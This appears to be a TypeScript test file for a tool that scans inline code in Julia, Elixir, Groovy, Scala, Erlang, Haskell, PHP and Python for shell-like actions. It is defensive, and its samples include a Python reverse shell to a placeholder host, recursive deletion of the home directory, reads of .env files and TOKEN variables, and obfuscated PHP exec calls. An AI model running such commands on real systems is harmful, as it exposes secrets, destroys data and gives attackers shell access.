import assert from 'node:assert/strict';
import { elixir } from '../../../src/core/code/elixir';
import { erlang } from '../../../src/core/code/erlang';
import { groovy } from '../../../src/core/code/groovy';
import { haskell } from '../../../src/core/code/haskell';
import { julia } from '../../../src/core/code/julia';
import { php } from '../../../src/core/code/php';
import { python } from '../../../src/core/code/python';
import { scala } from '../../../src/core/code/scala';
import type { CodeReader } from '../../../src/core/model/codeReader';
import { read } from './checkCode';

type Row = readonly [program: string, args: readonly string[], found: readonly string[]];

const rows: readonly (readonly [CodeReader, readonly Row[]])[] = [
  [
    julia,
    [
      ['julia', ['-e', 'run(`ls $(x)`)'], ['$ ls …']],
      ['julia', ['--eval=rm("a"; recursive=true)'], ['rm -r -f -- a']],
      ['julia', ['-E', 'd = "a"; rm(d * "/b")'], ['rm -f -- a/b']],
      [
        'julia',
        ['-e', 'mv("a", "b", force=true); cp("a", "b"); write("f", "x")'],
        ['mv -- a b', 'cp -- a b', '> /home/dev/shop/f'],
      ],
      ['julia', ['-e', 'println(ENV["TOKEN"]); println(ENV)'], ['printenv TOKEN', 'printenv']],
      ['julia', ['-e', 'println(read(".env", String)); println(homedir())'], ['cat .env']],
      ['julia', ['-e', 'print(get(ENV, "TOKEN", "")); print(string("a"))'], ['printenv TOKEN']],
      ['julia', ['-e', 'using Pkg; Pkg.test() # rm("a")'], []],
      ['julia', ['--version'], []],
    ],
  ],
  [
    elixir,
    [
      ['elixir', ['-e', 'System.cmd("rm", ["-r", "a"], into: IO.stream())'], ['rm -r a']],
      ['elixir', ['-e', ':os.cmd(~c"ls -l"); System.shell("id")'], ['$ ls -l', '$ id']],
      ['mix', ['run', '--no-start', '-e', 'File.rm_rf!("a" <> "b")'], ['rm -r -f -- ab']],
      ['mix', ['eval', 'File.rm!("a")'], ['rm -f -- a']],
      ['mix', ['test'], []],
      [
        'elixir',
        ['-e', 'Port.open({:spawn, "id"}, []); File.rename("a", "b"); IO.puts(System.get_env("TOKEN"))'],
        ['$ id', 'mv -- a b', 'printenv TOKEN'],
      ],
      ['elixir', ['-e', 'IO.inspect(System.get_env())'], ['printenv']],
      [
        'elixir',
        ['-e', 'IO.puts(File.read!(".env")); File.rm_rf(Path.expand("~/x"))'],
        ['cat .env', 'rm -r -f -- /home/dev/x'],
      ],
      ['elixir', ['-e', 'File.rm(System.user_home!() <> "/x"); Port.open(x, [])'], ['rm -f -- /home/dev/x']],
    ],
  ],
  [
    groovy,
    [
      ['groovy', ['-e', '"ls -l".execute()'], ['$ ls -l']],
      ['groovy', ['-e', '["rm", "-r", "a"].execute()'], ['rm -r a']],
      ['groovy', ['-e', 'new File("a").deleteDir(); new File("b").delete()'], ['rm -r -f -- a', 'rm -f -- b']],
      ['groovy', ['-e', 'def d = "a"; new File(d).renameTo("b")'], ['mv -- a b']],
      [
        'groovy',
        ['-e', 'new File("f").write("x"); new ProcessBuilder("ls", "-l").start()'],
        ['ls -l', '> /home/dev/shop/f'],
      ],
      ['groovy', ['-e', 'println System.getenv("TOKEN"); println System.getenv()'], ['printenv TOKEN', 'printenv']],
      ['groovy', ['-e', 'new File(System.getProperty("user.home")).deleteDir()'], ['rm -r -f -- /home/dev']],
      ['groovy', ['-e', 'java.lang.Runtime.getRuntime().exec("rm -r a")'], ['$ rm -r a']],
      ['jrunscript', ['-e', 'java.lang.Runtime.getRuntime().exec("rm -r a")'], ['$ rm -r a']],
      ['groovy', ['-e', 'println 1 // "ls".execute()'], []],
      ['groovy', ['-e', 'x.start(); x.each { println it }'], []],
    ],
  ],
  [
    scala,
    [
      ['scala', ['-e', 'import sys.process._; "ls -l".!'], ['$ ls -l']],
      ['scala', ['-e', 'import sys.process._; println(Seq("rm", "-r", "a").!!)'], ['rm -r a']],
      ['scala', ['-e', 'val ok = !done; sys.process.Process("id").!'], ['$ id']],
      [
        'scala-cli',
        ['run', '-e', 'os.remove.all(os.Path("/srv/a")); os.write(os.Path("/srv/f"), "x")'],
        ['rm -r -f -- /srv/a', '> /srv/f'],
      ],
      ['amm', ['-c', 'os.proc("ls", "-l").call()'], ['ls -l']],
      ['scala', ['-e', 'new java.io.File("a").delete(); println(sys.env("TOKEN"))'], ['rm -f -- a', 'printenv TOKEN']],
      ['scala', ['-e', 'println(sys.props("user.home")); println("wow!")'], []],
    ],
  ],
  [
    erlang,
    [
      ['erl', ['-noshell', '-eval', 'os:cmd("ls " ++ "-l"), halt().'], ['$ ls -l']],
      ['erl', ['-eval', 'file:del_dir_r("a"), file:delete("b", [raw]).'], ['rm -r -f -- a', 'rm -f -- b']],
      ['erl', ['-eval', 'file:rename("a", "b"), file:write_file("f", "x").'], ['mv -- a b', '> /home/dev/shop/f']],
      [
        'erl',
        ['-eval', 'open_port({spawn, "id"}, []), io:format("~s", [os:getenv("TOKEN")]).'],
        ['$ id', 'printenv TOKEN'],
      ],
      ['erl', ['-eval', 'io:format("hi~n"), open_port(X, []). % os:cmd("id")'], []],
    ],
  ],
  [
    haskell,
    [
      ['ghc', ['-e', 'System.Process.callCommand "ls -l"'], ['$ ls -l']],
      ['ghc', ['-e', 'System.Process.callProcess "rm" ["-r", "a"]'], ['rm -r a']],
      ['ghc', ['-e', 'System.Directory.removeDirectoryRecursive ("a" ++ "b")'], ['rm -r -f -- ab']],
      ['ghc', ['-e', 'writeFile "f" "x" >> removeFile "a"'], ['rm -f -- a', '> /home/dev/shop/f']],
      ['ghc', ['-e', 'renameFile "a" "b"'], ['mv -- a b']],
      ['ghc', ['-e', 'System.Environment.getEnv "TOKEN" >>= putStrLn -- id'], []],
      ['runghc', ['Main.hs'], []],
    ],
  ],
  [
    php,
    [
      ['php', ['-r', '$f = "sys" . "tem"; $f("id"); $g("id");'], ['$ id']],
      ['php', ['-r', 'call_user_func_array("exec", ["id"]); array_map("strlen", [1]);'], ['$ id']],
    ],
  ],
  [
    python,
    [
      [
        'python3',
        [
          '-c',
          'import socket, os\ns = socket.create_connection(("h", 1))\nos.dup2(s.fileno(), 0)\nos.system("/bin/sh -i")',
        ],
        ['$ /bin/sh -i', 'nc -e /bin/sh'],
      ],
      ['python3', ['-c', 'import os; os.system("/bin/sh -i")'], ['$ /bin/sh -i', '?dynamic present']],
      ['python3', ['-c', 'import socket, os; socket.gethostname(); os.system("sh -c id")'], ['$ sh -c id']],
    ],
  ],
];

describe('more languages that are looked through for their calls', () => {
  for (const [reader, table] of rows) {
    for (const [program, args, found] of table) {
      it(`${program} ${args.join(' ')}`, async () => {
        assert.deepEqual((await read(reader, program, { args })) ?? [], found);
      });
    }
  }
});
